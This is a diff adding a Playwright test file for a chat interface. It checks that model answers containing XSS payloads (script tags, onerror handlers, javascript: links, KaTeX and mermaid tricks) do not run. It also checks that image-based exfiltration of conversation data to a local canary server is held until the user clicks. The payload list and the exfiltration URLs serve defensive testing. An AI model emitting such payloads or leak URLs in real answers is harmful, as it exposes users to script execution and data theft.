@@ -1,0 +1,116 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { answered, ask, exchanges, lastAnswer, openChat, questionFor } from "./chat-page.ts";
+import { expect, test } from "./fixtures.ts";
+
+/** What a model can be made to say, each in the hope that something of it runs. */
+const ATTACKS = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)></svg>",
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  "<details open ontoggle=alert(1)>x</details>",
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt:alert(1))",
+  "[click](data:text/html,<script>alert(1)</script>)",
+  "[click](vbscript:alert(1))",
+  "![x](javascript:alert(1))",
+  '![x](https://canary.invalid/"onerror="alert(1))',
+  '<a href="javascript:alert(1)">x</a>',
+  "[a]: javascript:alert(1)\n\n[a]",
+  "<javascript:alert(1)>",
+  "`<script>alert(1)</script>`",
+  "```html\n<script>alert(1)</script>\n```",
+  "```<img src=x onerror=alert(1)>\ncode\n```",
+  "$\\href{javascript:alert(1)}{x}$",
+  "$\\htmlData{onclick=alert(1)}{x}$",
+  "$$\\includegraphics{https://canary.invalid/x.png}$$",
+  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n```',
+  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA[<script>alert(1)</script>]\nclick A call alert(1)\n```',
+  "```mermaid\nsequenceDiagram\nA->>B: <svg/onload=alert(1)>\n```",
+].join("\n\n");
+
+test("R33: nothing in an answer, a question or a title runs", async ({ page }) => {
+  const dialogs: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await openChat(page);
+  await ask(page, `${questionFor(ATTACKS)} <img src=x onerror=alert(2)>`);
+  await answered(page);
+  await expect(lastAnswer(page)).toContainText("<script>alert(1)</script>");
+  for (const link of await lastAnswer(page).locator("a").all()) {
+    expect(await link.getAttribute("href")).toMatch(/^(https?|mailto):/);
+    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+  }
+  await expect(lastAnswer(page).locator("script, svg[onload], img[onerror], iframe, details")).toHaveCount(0);
+  for (const text of await lastAnswer(page).getByText("click", { exact: true }).all()) await text.click();
+  await page.reload();
+  await answered(page);
+  await page.goto("/user/history");
+  await expect(page.getByRole("link", { name: /scenario/ }).first()).toBeVisible();
+  expect(dialogs).toEqual([]);
+});
+
+test.describe("R34: an answer that wants a picture shown", () => {
+  let canary: Server;
+  let hits: string[] = [];
+  const address = () => `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+
+  test.beforeEach(async () => {
+    hits = [];
+    canary = createServer((request, response) => {
+      hits.push(`${request.url} ${request.headers.referer ?? "no referrer"}`);
+      response.setHeader("content-type", "image/svg+xml");
+      response.end('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"/>');
+    });
+    await new Promise<void>((listening) => canary.listen(0, "127.0.0.1", listening));
+  });
+  test.afterEach(async () => {
+    await new Promise((closed) => canary.close(closed));
+  });
+
+  test("tells nobody before a click, and only the picture's address after it", async ({ page }) => {
+    await openChat(page);
+    const url = `${address()}/leak?text=secret`;
+    const answer = [
+      `![the conversation](${url})`,
+      `<img src="${url}">`,
+      `[link](${url})`,
+      `$\\includegraphics{${url}}$`,
+      '```mermaid\ngraph TD\nA@{ img: "' + url + '", label: "x" }\n```',
+      "```mermaid\ngraph TD\nA[x]\nstyle A fill:url(" + url + ")\n```",
+      '```mermaid\n%%{init: {"themeCSS": "* { background: url(' + url + ') }"}}%%\ngraph TD\nB[y]\n```',
+    ].join("\n\n");
+    await ask(page, questionFor(answer));
+    await answered(page);
+    await expect(lastAnswer(page)).toContainText("graph TD");
+    await page.waitForTimeout(1_000);
+    expect(hits).toEqual([]);
+    await page.getByRole("button", { name: /Load the image from 127.0.0.1/ }).click();
+    await expect.poll(() => hits).toEqual(["/leak?text=secret no referrer"]);
+    const frame = exchanges(page).locator("iframe");
+    await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
+    await expect(frame).toHaveCSS("aspect-ratio", "40 / 20");
+  });
+});
+
+test("code, formulas, tables and diagrams are drawn", async ({ page }) => {
+  await openChat(page);
+  const answer = [
+    "# Title",
+    "| a | b |\n|---|---|\n| 1 | 2 |",
+    "```ts\nconst answer: number = 42; // why\n```",
+    "Inline $a^2+b^2$ and\n\n\\[\n\\int_0^1 x\\,dx\n\\]",
+    "```mermaid\nflowchart LR\n  A[Question] --> B[Answer]\n```",
+  ].join("\n\n");
+  await ask(page, questionFor(answer));
+  await answered(page);
+  const text = lastAnswer(page);
+  await expect(text.getByRole("heading", { name: "Title" })).toBeVisible();
+  await expect(text.getByRole("cell", { name: "2" })).toBeVisible();
+  await expect(text.locator("pre code span").first()).toHaveText("const");
+  await expect(text.locator(".katex")).toHaveCount(2);
+  await expect(text.getByRole("img", { name: /Diagram of/ })).toBeVisible({ timeout: 20_000 });
+});
